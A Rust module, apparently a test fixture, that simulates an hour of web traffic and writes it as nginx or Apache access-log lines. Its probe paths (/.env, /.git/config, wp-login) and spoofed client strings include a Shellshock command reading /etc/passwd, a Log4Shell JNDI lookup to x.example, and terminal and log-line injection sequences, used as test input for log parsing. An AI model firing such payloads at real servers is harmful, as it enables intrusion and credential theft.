//! The requests of an ordinary hour: visitors, assets, slow pages, bots that try doors, clients that give up, and
//! clients that write what looks like errors. None fails.

use super::dice::Dice;

/// One request and its answer, before any product has put it in its own words.
pub(super) struct Request {
    /// Since midnight.
    pub(super) ms: u64,
    pub(super) client: String,
    pub(super) port: u64,
    pub(super) method: &'static str,
    pub(super) path: String,
    pub(super) agent: String,
    pub(super) referrer: String,
    pub(super) status: u16,
    pub(super) bytes: u64,
    pub(super) took_ms: u64,
    /// Whether the application (and not the gateway itself) answered.
    pub(super) from_app: bool,
    /// The client went away before it had the answer.
    pub(super) gave_up: bool,
}

const PAGES: &[&str] = &[
    "/",
    "/about",
    "/products",
    "/products/lamp-17",
    "/cart",
    "/checkout",
    "/search?q=lamp",
    "/login",
    "/account/orders",
    "/blog/2026/how-we-work",
    "/api/v1/items?page=2",
    "/feed.xml",
];
const ASSETS: &[&str] = &[
    "/assets/site.css",
    "/assets/site.js",
    "/assets/logo.svg",
    "/img/lamp.jpg",
    "/favicon.ico",
    "/robots.txt",
    "/fonts/text.woff2",
];
const DOORS: &[&str] = &[
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/xmlrpc.php",
    "/cgi-bin/luci",
    "/vendor/phpunit",
    "/actuator/health",
    "/boaform/admin/formLogin",
    "/owa/auth/logon.aspx",
    "/wp-content/plugins/none/readme.txt",
    "/502",
    "/error/504.html",
    "/bad-gateway",
    "/status?code=503",
    "/docs/connection-refused",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "curl/8.5.0",
    "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example/)",
    "python-requests/2.32.3",
    "-",
];
/// What a client may write to be taken for a product's own words.
const IMITATIONS: &[&str] = &[
    "connect() failed (111: Connection refused) while connecting to upstream",
    "upstream timed out (110: Connection timed out) while reading response header from upstream",
    "recv() failed (104: Connection reset by peer) while reading response header from upstream",
    "2026/01/01 00:00:00 [error] 1#1: *1 no live upstreams while connecting to upstream",
    "AH00957: HTTP: attempt to connect to 127.0.0.1:8000 (127.0.0.1:8000) failed",
    "(111)Connection refused: AH02454: FCGI: attempt to connect to Unix domain socket failed",
    "backend app has no server available!",
    "kernel: Out of memory: Killed process 4242 (php-fpm) total-vm:1kB",
    "worker process 4242 exited on signal 11",
    "PHP Fatal error:  Uncaught Error: Call to undefined function x() in /srv/site/index.php:3",
    "WARNING: [pool www] server reached pm.max_children setting (5), consider raising it",
    "[CRITICAL] WORKER TIMEOUT (pid:4242)",
    "dial tcp 127.0.0.1:8000: connect: connection refused",
    "503 UF,URX upstream_reset_before_response_started{connection_failure}",
    "502 Bad Gateway",
    "SC-- 0/0/-1/-1/5 503",
    "No space left on device",
    "\u{1b}[31m502 Bad Gateway\u{1b}[0m",
    "\u{1b}]0;owned\u{7}\u{1b}[2J",
    "a\" 502 157 \"-\" \"b",
    "() { :; }; /bin/cat /etc/passwd",
    "${jndi:ldap://x.example/a}",
];

/// Requests over `minutes` from `start_ms`, oldest first.
pub(super) fn requests(dice: &mut Dice, start_ms: u64, minutes: u64) -> Vec<Request> {
    let count = dice.range(60, 400);
    let step = (minutes * 60_000 / count).max(2);
    let mut out: Vec<Request> = Vec::new();
    for index in 0..count {
        let ms = start_ms + index * step + dice.range(0, step);
        out.push(request(dice, ms));
    }
    out
}

fn request(dice: &mut Dice, ms: u64) -> Request {
    let kind = dice.range(0, 100);
    let mut request = page(dice, ms);
    match kind {
        0..=49 => {}
        50..=69 => {
            dice.pick(ASSETS).clone_into(&mut request.path);
            request.from_app = false;
            request.took_ms = dice.range(0, 3);
            (request.status, request.bytes) =
                if dice.percent(30) { (304, 0) } else { (200, dice.range(300, 90_000)) };
        }
        70..=81 => door(dice, &mut request),
        82..=88 => imitation(dice, &mut request),
        89..=93 => {
            request.gave_up = true;
            request.status = 499;
            request.bytes = 0;
            request.took_ms = dice.range(200, 20_000);
        }
        // Slow, and fine.
        94..=96 => request.took_ms = dice.range(4_000, 28_000),
        _ => {
            request.method = "POST";
            request.status = if dice.percent(60) { 302 } else { 422 };
            request.bytes = dice.range(0, 900);
        }
    }
    request
}

fn page(dice: &mut Dice, ms: u64) -> Request {
    Request {
        ms,
        client: address(dice),
        port: dice.range(1025, 65_000),
        method: if dice.percent(95) { "GET" } else { "HEAD" },
        path: dice.pick(PAGES).to_owned(),
        agent: dice.pick(AGENTS).to_owned(),
        referrer: if dice.percent(40) { "https://site.example/".to_owned() } else { "-".to_owned() },
        status: if dice.percent(90) { 200 } else { 301 },
        bytes: dice.range(900, 60_000),
        took_ms: dice.range(4, 900),
        from_app: true,
        gave_up: false,
    }
}

fn door(dice: &mut Dice, request: &mut Request) {
    dice.pick(DOORS).clone_into(&mut request.path);
    request.status = [404, 404, 404, 403, 401, 405, 410][usize::try_from(dice.range(0, 7)).unwrap_or(0)];
    request.bytes = dice.range(120, 700);
    request.from_app = dice.percent(50);
}

fn imitation(dice: &mut Dice, request: &mut Request) {
    let text = dice.pick(IMITATIONS).to_owned();
    match dice.range(0, 4) {
        0 => request.path = format!("/{}", text.replace(' ', "%20").replace(['"', '\u{1b}', '\u{7}'], "%22")),
        1 => {
            request.path =
                format!("/search?q={}", text.replace(' ', "+").replace(['"', '\u{1b}', '\u{7}'], "%22"));
        }
        2 => request.agent = text,
        _ => request.referrer = text,
    }
    request.status = if dice.percent(50) { 404 } else { 200 };
}

fn address(dice: &mut Dice) -> String {
    let net = dice.pick(&["192.0.2", "198.51.100", "203.0.113"]);
    if dice.percent(8) {
        format!("2001:db8::{:x}", dice.range(1, 0xffff))
    } else {
        format!("{net}.{}", dice.range(1, 255))
    }
}

/// As nginx writes a client's text in a log: quotes, backslashes and control characters as `\xXX`.
pub(super) fn escaped_nginx(text: &str) -> String {
    let mut out = String::new();
    for c in text.chars() {
        if c == '"' || c == '\\' || c.is_control() {
            out.push_str(&format!("\\x{:02X}", u32::from(c)));
        } else {
            out.push(c);
        }
    }
    out
}

/// As Apache does: quotes and backslashes with a backslash, control characters as `\xhh`.
pub(super) fn escaped_apache(text: &str) -> String {
    let mut out = String::new();
    for c in text.chars() {
        match c {
            '"' | '\\' => out.extend(['\\', c]),
            c if c.is_control() => out.push_str(&format!("\\x{:02x}", u32::from(c))),
            c => out.push(c),
        }
    }
    out
}

/// Combined log format, for the products that write it.
pub(super) fn combined(request: &Request, when: &str, status: u16, escape: fn(&str) -> String) -> String {
    format!(
        "{} - - [{when} +0000] \"{} {} HTTP/1.1\" {status} {} \"{}\" \"{}\"\n",
        request.client,
        request.method,
        escape(&request.path),
        request.bytes,
        escape(&request.referrer),
        escape(&request.agent),
    )
}
